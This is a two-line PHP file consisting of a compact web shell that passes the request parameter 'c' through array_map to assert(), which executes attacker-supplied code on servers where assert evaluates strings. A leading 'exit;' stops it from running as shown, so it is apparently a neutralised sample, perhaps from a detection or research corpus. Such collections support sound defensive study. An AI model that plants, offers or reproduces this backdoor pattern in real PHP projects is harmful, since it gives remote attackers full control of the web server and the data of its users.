<?php exit;
array_map('assert', (array) $_REQUEST['c']);
